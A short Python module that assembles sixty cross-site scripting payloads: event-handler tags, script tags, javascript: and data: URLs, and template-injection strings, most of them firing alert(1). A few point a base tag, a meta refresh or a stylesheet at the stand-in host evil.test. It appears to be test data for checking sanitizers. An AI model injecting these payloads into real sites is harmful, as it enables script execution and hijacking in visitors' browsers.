"""Sixty texts that run as a script where a page takes text for markup, an address or a piece of code."""

TAGS = [
    "img src=x onerror",
    "svg onload",
    "body onload",
    "iframe onload",
    "input autofocus onfocus",
    "video src onerror",
]
TAGS += ["details open ontoggle", "audio src=x onerror", "marquee onstart", "select autofocus onfocus"]
CLOSERS = ["", '">', "'>", "</script>", "</title>", "-->"]
HANDLERS = [f"{closer}<{tag}=alert(1)>" for closer in CLOSERS[:4] for tag in TAGS]
SCRIPTS = [f"{closer}<script>alert(1)</script>" for closer in CLOSERS]
ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<a href=javascript:alert(1) autofocus>x</a>",
    "<base href=//evil.test>",
    "<meta http-equiv=refresh content=0;url=//evil.test>",
]
CODE = [
    "'-alert(1)-'",
    '"-alert(1)-"',
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "';alert(1);//",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<style>@import '//evil.test'</style>",
    "<link rel=stylesheet href=//evil.test>",
]
HOSTILE = (*HANDLERS, *SCRIPTS, *ADDRESSES, *CODE)
assert len(HOSTILE) == len(set(HOSTILE)) == 60
